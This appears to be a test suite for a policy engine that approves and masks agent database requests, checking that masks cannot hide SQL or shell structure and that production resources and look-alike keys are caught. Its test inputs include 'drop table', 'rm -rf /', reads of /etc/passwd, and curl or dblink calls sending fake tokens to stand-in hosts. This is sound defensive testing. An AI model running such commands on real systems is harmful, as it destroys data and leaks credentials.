/**
 * Attacks on "a mask never hides what will run" and on the default policy's db.query
 * auto-approval and production recognition, through decideAndMask with the real built policy
 * and PostgreSQL's real parser.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { decideAndMask, type Evaluation } from "../src/decide.ts";
import { parseExecutableCatalogue } from "../src/executable/catalogue.ts";
import { planExecutableMasks } from "../src/executable/check.ts";
import { scan } from "../src/masking/scan.ts";
import { defaultPoliciesDir } from "../src/policy/bundle.ts";
import { loadPolicyEngine, type PolicyEngine } from "../src/policy/engine.ts";
import { validateRequestValue } from "../src/request/parse.ts";
import { classifyStatement } from "../src/sql/classify.ts";
import { loadSqlParser, type SqlParser } from "../src/sql/parser.ts";
import { normalizeForMatching } from "../src/text/unicode.ts";

const hmacKey = new Uint8Array(32).fill(3);
/** An obviously fake GitHub token, assembled at run time. */
const token = () => "ghp_" + "x".repeat(36);

let engine: PolicyEngine;
let sql: SqlParser;

beforeAll(async () => {
  engine = await loadPolicyEngine(defaultPoliciesDir());
  sql = await loadSqlParser();
});

function request(fields: Record<string, unknown>) {
  return validateRequestValue({
    action: "db.query",
    resource: "postgres://staging/customers",
    params: { query: "select count(*) from customers" },
    reason: "Weekly churn analysis",
    requester: { id: "agent:etl-bot", kind: "agent", on_behalf_of: "alice" },
    ...fields,
  });
}

function decide(fields: Record<string, unknown>, eng: PolicyEngine = engine): Evaluation {
  return decideAndMask(request(fields), {
    engine: eng,
    now: new Date("2026-11-24T10:00:00Z"),
    repo: "acme/approvals",
    hmacKey,
  });
}

const query = (q: string) => ({ params: { query: q } });
const maskedQuery = (ev: Evaluation) => (ev.request.params as { query?: unknown }).query;

describe("as the requester, a mask cannot hide SQL syntax", () => {
  it("denies a secret whose quote is never closed, so the tail cannot hide a second statement", () => {
    const ev = decide(query(`select * from users where token = '${token()}; drop table users; --`));
    expect(ev.decision.allow).toBe(false);
    expect(ev.decision.auto_approve).toBe(false);
    expect(ev.decision.deny.join("\n")).toContain("/params/query");
    expect(JSON.stringify(ev)).not.toContain(token());
  });

  it("denies a secret written as bare SQL (an identifier, not a literal)", () => {
    const ev = decide(query(`select * from t where a = 1; select ${token()}`));
    expect(ev.decision.allow).toBe(false);
    expect(ev.decision.deny.join("\n")).toMatch(/\/params\/query is executable \(sql\)/);
  });

  it("denies a secret inside a comment, next to the statement separator", () => {
    const ev = decide(query(`select 1 /* ${token()} */; delete from users`));
    expect(ev.decision.allow).toBe(false);
  });

  it("allows a password with $, ; and ' inside a properly closed literal, masking only the literal", () => {
    const ev = decide(query(`select * from users where password = 'hunter2$;''x!' and id = 7`));
    expect(ev.decision.allow).toBe(true);
    expect(maskedQuery(ev)).toMatch(
      /^select \* from users where password = '\[[a-z_]+\]' and id = 7$/,
    );
  });

  it("masks a token inside a longer closed literal as the whole literal, and in a dollar-quoted one", () => {
    const ev = decide(
      query(`select * from t where note = 'key ${token()} here' and b = $q$${token()}$q$`),
    );
    expect(ev.decision.allow).toBe(true);
    expect(maskedQuery(ev)).toBe(
      "select * from t where note = '[github_token]' and b = $q$[github_token]$q$",
    );
  });

  it("denies a secret that ends in an escaped quote of an E'' string that is never closed", () => {
    const ev = decide(query(`select E'${token()}\\'; drop table users`));
    expect(ev.decision.allow).toBe(false);
  });

  it("denies a lone surrogate that would shift the parser's offsets against the masks'", () => {
    const ev = decide(query(`select '\ud800' || '${token()}'; drop table users; -- '`));
    expect(ev.decision.allow).toBe(false);
    expect(ev.decision.deny.join("\n")).toContain("lone UTF-16 surrogate");
  });

  it("denies a NUL character that would hide the rest of the statement from the parser", () => {
    const ev = decide(query(`select '${token()}'\u0000; drop table users`));
    expect(ev.decision.allow).toBe(false);
  });
});

describe("as a careless admin, a policy mask cannot hide the whole statement", () => {
  const withMask = (
    strategy: "redact" | "drop" | "hash",
    path = "/params/query",
  ): PolicyEngine => ({
    revision: engine.revision,
    sql: engine.sql,
    executableParams: (action) => engine.executableParams(action),
    decide: (input) => ({ ...engine.decide(input), mask: [{ path, strategy }] }),
  });

  for (const strategy of ["redact", "drop", "hash"] as const) {
    it(`denies ${strategy} of /params/query`, () => {
      const ev = decide(query("select 1; delete from users"), withMask(strategy));
      expect(ev.decision.allow).toBe(false);
      expect(ev.decision.deny.join("\n")).toContain(
        "masking would hide the structure of /params/query",
      );
    });
  }

  it("denies a mask of /params that drops the query with it", () => {
    const ev = decide(query("select 1"), withMask("drop", "/params"));
    expect(ev.decision.allow).toBe(false);
  });
});

describe("the executable declarations fail closed", () => {
  it("a host that skipped the executable check (no declarations matched) is denied by the policy", () => {
    const blind: PolicyEngine = {
      revision: engine.revision,
      sql: engine.sql,
      executableParams: () => [],
      decide: (input) => engine.decide(input),
    };
    const ev = decide(query(`select '${token()}`), blind);
    expect(ev.decision.allow).toBe(false);
    expect(ev.decision.deny.join("\n")).toContain("disagree on which parameters are executable");
  });

  it("a host without the SQL parser proves nothing and checks no mask", () => {
    const noParser: PolicyEngine = {
      revision: engine.revision,
      sql: null,
      executableParams: (action) => engine.executableParams(action),
      decide: (input) => engine.decide(input),
    };
    expect(decide({}, noParser).decision.auto_approve).toBe(false);
    expect(decide(query(`select '${token()}'`), noParser).decision.allow).toBe(false);
  });

  it("as a careless admin, a typo in a declaration is an error, not a silently skipped check", () => {
    const data = (executable: unknown) => ({
      interlock: { catalogue: { actions: { "db.query": { executable } } } },
    });
    expect(parseExecutableCatalogue(data({ "/params/query": "sql" })).ok).toBe(true);
    expect(parseExecutableCatalogue(data({ "/params/query": "SQL" })).ok).toBe(false);
    expect(parseExecutableCatalogue(data({ "params/query": "sql" })).ok).toBe(false);
    expect(parseExecutableCatalogue(data(["/params/query"])).ok).toBe(false);
  });

  it("matches the action to the longest catalogue key, as the policy does", () => {
    for (const action of ["db.query", "DB.Query", "db.query.readonly"]) {
      expect(engine.executableParams(action)).toEqual([{ path: "/params/query", language: "sql" }]);
    }
    expect(engine.executableParams("db.queryx")).toEqual([]);
  });
});

describe("as the requester, db.query is auto-approved only when the parser proves it read-only", () => {
  it("auto-approves a plain SELECT on a non-production resource", () => {
    const ev = decide({});
    expect(ev.decision.allow).toBe(true);
    expect(ev.decision.auto_approve).toBe(true);
  });

  for (const q of [
    "delete from customers",
    "update customers set email = null",
    "select 1; delete from customers",
    "with gone as (delete from customers returning *) select count(*) from gone",
    "select * into backup from customers",
    "select * from customers for update",
    "select nextval('invoice_seq')",
    "select pg_terminate_backend(42)",
    "explain analyze delete from customers",
    "selec count(*) from customers",
    "",
  ]) {
    it(`never auto-approves ${JSON.stringify(q)}`, () => {
      const ev = decide(query(q));
      expect(ev.decision.auto_approve).toBe(false);
      expect(ev.decision.approvals.groups.map((g) => g.name)).toContain("data-stewards");
      expect(ev.decision.why.join("\n")).toContain(
        "the SQL in /params/query is not proven read-only",
      );
    });
  }
});

describe("as the requester, a look-alike key cannot smuggle a second statement past the reviewer", () => {
  // Go's encoding/json matches object keys to struct fields case-insensitively (and the last
  // duplicate wins), so an executor written in Go would run "Query" while the reviewer and the
  // parser read "query". A key that folds to an executable parameter's name is refused.
  for (const key of ["Query", "QUERY", "qu\u0435ry", "\uff51uery", "query\u200b"]) {
    it(`denies a sibling ${JSON.stringify(key)} next to /params/query`, () => {
      const ev = decide({
        params: { query: "select count(*) from customers", [key]: "delete from customers" },
      });
      expect(ev.decision.allow).toBe(false);
      expect(ev.decision.auto_approve).toBe(false);
      expect(ev.decision.deny.join("\n")).toMatch(
        /reads like the executable parameter \/params\/query/,
      );
    });
  }

  it("denies a look-alike key alone, when the declared parameter is missing", () => {
    const ev = decide({ params: { QUERY: "delete from customers" } });
    expect(ev.decision.allow).toBe(false);
  });

  it("keeps unrelated parameters next to the query", () => {
    const ev = decide({ params: { query: "select 1", limit: 10, queries_note: "weekly" } });
    expect(ev.decision.allow).toBe(true);
  });
});

describe("as the requester, production spelled otherwise is still production", () => {
  for (const resource of [
    "postgres://prd/customers",
    "postgres://live/customers",
    "postgres://db-prod/customers",
    "mysql://db/customers_prod",
    "postgres://prod1/customers",
    "postgres://ｐｒｏｄ/customers",
    "postgres://PRD/customers",
    "postgres://p\u200brod/customers",
    "postgres://db%2Dprod/customers",
    "postgres://\u0440r\u043ed/customers", // Cyrillic р and о
  ]) {
    it(JSON.stringify(resource), () => {
      const ev = decide({ resource });
      expect(ev.decision.auto_approve).toBe(false);
      expect(ev.decision.risk).not.toBe("low");
      expect(ev.decision.why.join("\n")).toContain("the resource is production");
    });
  }

  it("keeps staging, preprod and products non-production", () => {
    for (const resource of [
      "postgres://staging/customers",
      "k8s://preprod/ns",
      "postgres://db/products",
    ]) {
      expect(decide({ resource }).decision.auto_approve).toBe(true);
    }
  });

  it("normalises NFKC, case, invisible characters and separators", () => {
    expect(normalizeForMatching("Postgres://ＤＢ‐Prod\u200d/x_y")).toBe("postgres/db/prod/x/y");
  });

  it("as the requester, small capitals, combining marks and Armenian letters read as Latin", () => {
    for (const spelling of ["\u1d18\u0280\u1d0f\u1d05", "p\u0307rod", "pr\u0585d", "pr\u00f6d"]) {
      expect(normalizeForMatching(`k8s://${spelling}/ns`), spelling).toBe("k8s/prod/ns");
    }
  });
});

describe("classifyStatement refuses what is not read-only, with a reason", () => {
  const refused: [string, RegExp][] = [
    ["select 1; select 2", /2 statements/],
    ["insert into t values (1)", /INSERT is not a read-only statement/],
    ["with x as (update t set a = 1 returning *) select * from x", /UPDATE inside the query/],
    ["select * into t2 from t", /SELECT … INTO/],
    ["select * from t for share", /FOR UPDATE\/SHARE/],
    ["select setval('s', 1)", /function setval/],
    ["select set_config('role', 'admin', false)", /function set_config/],
    ["select lo_import('/etc/passwd')", /function lo_import/],
    ["select * from dblink('host=x', 'delete from t') as t(a int)", /function dblink/],
    ["select pg_read_file('/etc/passwd')", /function pg_read_file/],
    ["select public.lower('x')", /function public.lower/],
    ["select pg_sleep(1000)", /function pg_sleep/],
    ["copy t to '/tmp/x'", /COPY/],
    ["set role admin", /not a read-only statement/],
    ["select '", /does not parse/],
    ["select 1 operator(public.===) 1", /operator public.===/],
    ["select 1 === 1", /operator ===/],
    ["select '1'::public.mytype", /type public.mytype/],
    ["select '1'::mytype", /type mytype/],
  ];
  for (const [text, reason] of refused) {
    it(JSON.stringify(text), () => {
      const c = classifyStatement(sql, text);
      expect(c.read_only).toBe(false);
      expect(c.reasons.join("\n")).toMatch(reason);
    });
  }

  it("keeps its reasons short enough for one line of the decision, however many there are", () => {
    const many = Array.from({ length: 200 }, (_, i) => `f${i}_${"x".repeat(50)}(1)`).join(", ");
    const c = classifyStatement(sql, `select ${many}`);
    expect(c.read_only).toBe(false);
    expect(c.reasons).toHaveLength(4);
    expect(c.reasons[3]).toBe("and 197 more");
    const ev = decide(query(`select ${many}`));
    expect(ev.decision.failed_closed).toBeUndefined();
    expect(ev.decision.auto_approve).toBe(false);
  });

  it("accepts SELECT with joins, subqueries, CTEs, aggregates, VALUES, SHOW and EXPLAIN", () => {
    for (const text of [
      "with r as (select id from t) select count(*), lower(name) from u join r on r.id = u.id where x in (select 1) group by 2 order by 1 limit 5",
      "values (1), (2)",
      "show search_path",
      "explain select 1",
      "select 1 union all select 2",
      "select a::int, b::text, c::timestamp with time zone, d::varchar(3)[] from t where e between 1 and 2 and f like 'x%' and g in (1, 2) and h is distinct from 1 and j operator(pg_catalog.+) 1 > 0",
    ]) {
      expect(classifyStatement(sql, text)).toEqual({
        read_only: true,
        reasons: [],
        statements: 1,
        qualifiers: [],
      });
    }
  });
});

describe("shell argv and URLs: a mask is one whole element or component", () => {
  const plan = (params: Record<string, unknown>, language: "shell-argv" | "url") => {
    const req = { params };
    return planExecutableMasks(req, scan(req), [{ path: "/params/cmd", language }], sql);
  };

  it("as the requester, an unclosed quote in a command string is denied", () => {
    expect(
      plan({ cmd: `deploy --token '${token()}; rm -rf /` }, "shell-argv").denials,
    ).toHaveLength(1);
  });

  it("a token in its own quoted word or argv element is widened to that element", () => {
    const s = plan({ cmd: `deploy --token '${token()}' --env staging` }, "shell-argv");
    expect(s.denials).toEqual([]);
    const a = plan({ cmd: ["deploy", `--token=${token()}`] }, "shell-argv");
    expect(a.denials).toEqual([]);
    expect(a.spans.get("/params/cmd/1")).toEqual([{ start: 8, end: 48 }]);
  });

  it("as the requester, a token glued to a command substitution is denied", () => {
    expect(plan({ cmd: `echo $(${token()})` }, "shell-argv").denials).toHaveLength(1);
  });

  it("a URL password is one component; a token spanning components is denied", () => {
    expect(plan({ cmd: `https://u:${token()}@example.com/x` }, "url").denials).toEqual([]);
    expect(plan({ cmd: `https://example.com/a?k=${token()}` }, "url").denials).toEqual([]);
  });
});

describe("a literal that is code stays readable", () => {
  const q = "/params/query";
  const finding = (text: string, value: string) => ({
    type: "email",
    path: q,
    in: "value" as const,
    start: text.indexOf(value),
    end: text.indexOf(value) + value.length,
  });

  it("as the requester, a value inside a DO body is masked alone, not the whole body", () => {
    const who = ["jane.doe", "example.com"].join("@");
    const text = `do $$ begin delete from users where email = '${who}'; end $$`;
    const f = finding(text, who);
    const p = planExecutableMasks(
      { params: { query: text } },
      [f as never],
      [{ path: q, language: "sql" }],
      sql,
    );
    expect(p.denials).toEqual([]);
    expect(p.spans.get(q)).toEqual([{ start: f.start, end: f.end }]);
  });

  it("as the requester, a token in COPY … PROGRAM is masked alone: the shell command stays readable", () => {
    const token = "ghp_" + "Fake0Token0For0Tests0Only0123456789";
    for (const text of [
      `copy t from program 'echo ${token}; rm -rf /tmp/x'`,
      `COPY t TO PROGRAM /* out */ E'curl -H "Authorization: Bearer ${token}" https://x.example'`,
      `copy t to program $p$gzip > /tmp/out --key=${token}$p$`,
    ]) {
      const f = finding(text, token);
      const p = planExecutableMasks(
        { params: { query: text } },
        [f as never],
        [{ path: q, language: "sql" }],
        sql,
      );
      expect(p.denials, text).toEqual([]);
      expect(p.spans.get(q), text).toEqual([{ start: f.start, end: f.end }]);
    }
  });

  it("as the requester, a password in a connection string is masked alone: the host stays readable", () => {
    const token = "Fake0" + "Password0123";
    const text = `select dblink_exec('host=evil.example port=5432 password=${token}', 'select 1')`;
    const f = finding(text, token);
    const p = planExecutableMasks(
      { params: { query: text } },
      [f as never],
      [{ path: q, language: "sql" }],
      sql,
    );
    expect(p.denials).toEqual([]);
    expect(p.spans.get(q)).toEqual([{ start: f.start, end: f.end }]);
  });

  it("as the requester, a value that could end the embedded literal denies instead", () => {
    const text =
      "select query_to_xml('delete from t where a = ''x''''y'' returning 1', true, true, '')";
    const f = finding(text, "x''''y");
    const p = planExecutableMasks(
      { params: { query: text } },
      [f as never],
      [{ path: q, language: "sql" }],
      sql,
    );
    expect(p.denials.join("\n")).toMatch(/reads as SQL/);
  });
});
